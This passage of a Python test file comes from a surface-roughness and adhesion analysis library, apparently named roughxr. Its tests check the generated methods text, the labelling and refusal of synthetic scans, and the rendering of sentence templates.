        "high": 25.0,
        "independent_places": 40.0,
        "finest_shown": 10.0,
        "best_estimate": 11.0,
    }
    value |= {"best_low": 2.0, "best_high": 61.0 if narrowed < 61.0 else 900.0}
    value |= {"narrowed_low": 2.0, "narrowed_high": narrowed}
    summary = xr.Dataset(value, attrs={"narrowing_source": "work of adhesion", "unseen_by": "surfaces"})
    *_, step = answer_lines(summary)
    assert (narrowed == 59.0) == ("narrows most" not in step)
    assert ends in step and "wider than" not in step


def test_methods_state_levelling_hamaker_constant_and_the_sources_of_the_interval(run):
    scan = run["scan"].assign_attrs(levelling="plane").assign_coords(hamaker_constant=0.065)
    text = methods(run | {"scan": scan})
    assert "pixels, levelled by a plane, at" in text and "by the Hamaker constant A = 65 zJ" in text
    errors = run["statistics/error_budget"].relative_std
    largest = str(errors.entry[int(errors.argmax("entry"))].values)
    sources = text.partition("The interval contains, as standard deviations, the errors of ")[2]
    assert f"{largest} ({numbers.format_percent(float(errors.max()))})" in sources


@pytest.fixture(scope="module")
def synthetic_run(tmp_path_factory):
    """Return scan, archive and printed text of a run of a synthetic surface, coarse and of few places."""
    made = roughxr.scans.synthetic.self_affine((64, 64), 40, rms=4, hurst=0.8, rolloff=300, cutoff=160, seed=2)
    scan = roughxr.assign_pair(made, sphere_radius=500, contact_modulus=40, work_of_adhesion=0.1)
    output = tmp_path_factory.mktemp("synthetic") / "run.nc"
    options = {"subregions": (2, 2), "budget": 1, "law": "jkr", "mesh": 1}
    with bare_runs("none"), warnings.catch_warnings(), contextlib.redirect_stdout(io.StringIO()) as printed:
        warnings.simplefilter("ignore")
        roughxr.run(scan, output, **options)
    return scan, output, printed.getvalue()


@pytest.mark.usefixtures("unrendered")
def test_a_synthetic_surface_has_no_real_one_at_any_door(synthetic_run, tmp_path):
    """It is neither estimated, nor is a scan of it advised, by what a run prints, its pages, its sheet and answers."""
    scan, output, printed = synthetic_run
    groups = archive.load(output)
    assert "solutions/extrapolated" not in groups
    result = several._scan_result(groups)
    several.write_summary({"made": result}, {}, tmp_path)
    texts = {
        "printed": printed,
        "report": report.page(groups),
        "explorer": report.write_explorer(output, tmp_path / "explore.html").read_text(encoding="utf-8"),
        "headline of the sheet": " ".join(answer_lines(result.summary)),
        "answer": roughxr.answer(groups["solutions/adhesive"]).sentence,
        "answer of a sum": roughxr.answer(roughxr.superpose(scan, subregions=(2, 2))).sentence,
    }
    for name, text in texts.items():
        sentence = " ".join(text.split()).lower()
        assert "synthetic" in sentence, name
        for phrase in ("real surface", "best estimate", "second scan", "larger scan", "larger area", "finer scan"):
            assert phrase not in sentence, (name, phrase)
    assert "The scan is synthetic: generated from a random seed, not measured." in result.cautions
    assert [text for _, text in several._cells(result)[:2]] == ["–", "–"]


def test_an_estimate_of_a_synthetic_surface_is_refused_in_words(synthetic_run, tmp_path):
    scan, _, _ = synthetic_run
    finer = roughxr.scans.resample(scan, size=15)
    sentence = "expected a measured scan, found a synthetic one, which has no real surface"
    with pytest.raises(ValueError, match=sentence):
        roughxr.extrapolated(scan)
    with pytest.raises(ValueError, match=sentence):
        roughxr.extrapolated(as_measured(scan), finer=finer)
    for measured in (scan, as_measured(scan)):
        with pytest.raises(ValueError, match=sentence):
            roughxr.run(measured, tmp_path / "run.nc", finer=finer)
    assert not list(tmp_path.iterdir())


def test_a_scan_stays_synthetic_through_what_prepares_it(tmp_path):
    glass = roughxr.open_scan(roughxr.scans.to_netcdf(roughxr.open_sample("glass"), tmp_path / "scan.nc"))
    part = roughxr.scans.crop(glass, x=(0, 600), y=(0, 600))
    for prepared in (
        roughxr.level(part),
        roughxr.fill(part),
        roughxr.scans.resample(part, size=20),
        roughxr.scans.smooth(part, shortest=60),
        roughxr.scans.dilate(part, tip_radius=10),
        roughxr.reconstruct(part, roughxr.asperities(part)),
    ):
        assert schema.is_synthetic(prepared), schema.history(prepared)[-1]


def test_a_sentence_is_printed_if_its_values_are_known():
    """Of alternatives the first of which all are."""
    entries = {"total": ["{mean:nN} ± {error:%}{places}", "{mean:nN}{places}"], "places": " at {count:+} places"}
    values = {"mean": 1234.0, "error": np.nan, "count": 9}
    assert _Sentences(entries, values).render("total") == "1.23 µN at 9 places"
    assert _Sentences(entries, values | {"error": 0.25, "count": 0}).render("total") == "1.23 µN ± 25 %"
    assert _Sentences(entries, {"count": 3}).render("total") == ""


@pytest.mark.parametrize(
    ("file", "modules"),
    [
        ("answer.toml", (application.headline, means, sampling, application.report.summary)),
        ("cautions.toml", (application.report.caveats, expectation)),
        *((file, (application.sentences,)) for file in ("fit.toml", "regime.toml", "estimate.toml")),
        ("comparison.toml", (application.sentences, measurements)),
        ("scans.toml", (several,)),
        ("start.toml", (analysis,)),
        ("dem.toml", (application.dem,)),
        ("detach.toml", (detach,)),
        ("facts.toml", (application.report.report_page,)),
        ("notes.toml", (application.report.report_page, application.report.detachment)),
    ],
)
def test_fields_of_sentences_are_values_of_their_module(file, modules):
    """A misspelt one would silently leave its sentence out."""
    entries = _entries(file)
    texts = [text for entry in entries.values() for text in ([entry] if isinstance(entry, str) else entry)]
    fields = {name for text in texts for _, name, _, _ in Formatter().parse(text) if name}
    source = " ".join([*SCALARS, *schema.TRAVELLING, *map(inspect.getsource, modules)])
    assert not {name for name in fields - set(entries) if name.removesuffix("_from").removesuffix("_to") not in source}
